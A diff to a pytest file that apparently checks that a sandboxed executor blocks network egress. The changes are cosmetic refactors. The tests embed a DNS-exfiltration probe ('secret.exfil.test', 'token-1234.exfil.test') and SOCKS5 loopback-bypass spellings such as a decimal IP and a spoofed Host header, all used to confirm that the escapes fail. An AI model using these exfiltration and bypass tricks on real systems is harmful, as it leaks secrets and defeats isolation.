@@ -15,9 +15,9 @@ from pathlib import Path
 from typing import Any
 
 import pytest
-from egress_support import PYTHON, UdpListener, http_server
 
 from clawgate.executors import ExecRequest, executor_from_settings
+from egress_support import PYTHON, UdpListener, http_server
 
 pytestmark = pytest.mark.bwrap
 BRIDGE = ("127.0.0.1", 3128)  # where the sandbox's programs find the proxy
@@ -67,10 +67,10 @@ def _socks(host: bytes, port: int, kind: int) -> bytes:
 
 def test_direct_connection_fails(tmp_path: Path, servers: tuple[int, int]) -> None:
     named, unnamed = servers
-    code = ("import socket\nfor port in ({}, {}):\n    try:\n"
+    code = (f"import socket\nfor port in ({named}, {unnamed}):\n    try:\n"
             "        socket.create_connection(('127.0.0.1', port), timeout=5)\n"
             "        print('reached', port)\n    except OSError as e:\n"
-            "        print('refused', type(e).__name__)\n").format(named, unnamed)
+            "        print('refused', type(e).__name__)\n")
     with _sandbox(tmp_path, named) as executor:
         assert _inside(executor, code) == "refused ConnectionRefusedError\n" * 2
 
@@ -79,11 +79,11 @@ def test_dns_exfiltration_fails(tmp_path: Path, servers: tuple[int, int]) -> Non
     listener = UdpListener()
     query = b"\x12\x34\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00\x06secret\x04exfil\x04test\x00"
     code = ("import socket\nu = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\n"
-            "try:\n    u.sendto({q!r}, ('127.0.0.1', {p}))\nexcept OSError as e:\n"
+            f"try:\n    u.sendto({query!r}, ('127.0.0.1', {listener.port}))\nexcept OSError as e:\n"
             "    print('send', type(e).__name__)\n"
             "try:\n    socket.getaddrinfo('token-1234.exfil.test', 80)\n    print('resolved')\n"
             "except OSError as e:\n    print('resolve', type(e).__name__)\n"
-            ).format(q=query, p=listener.port)
+            )
     try:
         with _sandbox(tmp_path, servers[0]) as executor:
             said = _inside(executor, code)
@@ -116,7 +116,7 @@ def test_connect_to_a_refused_host_with_an_allowed_host_header(
         assert f"hello localhost:{named} /p" in _inside(executor, _raw(spoofed.encode(), 200))
 
 
-@pytest.mark.parametrize("host, kind", [(b"\x7f\x00\x00\x01", 1), (b"localhost", 3),
+@pytest.mark.parametrize(("host", "kind"), [(b"\x7f\x00\x00\x01", 1), (b"localhost", 3),
                                         (b"\x00" * 15 + b"\x01", 4), (b"127.9.9.9", 3),
                                         (b"2130706433", 3)])
 def test_socks5_to_an_unnamed_loopback_port(tmp_path: Path, servers: tuple[int, int],
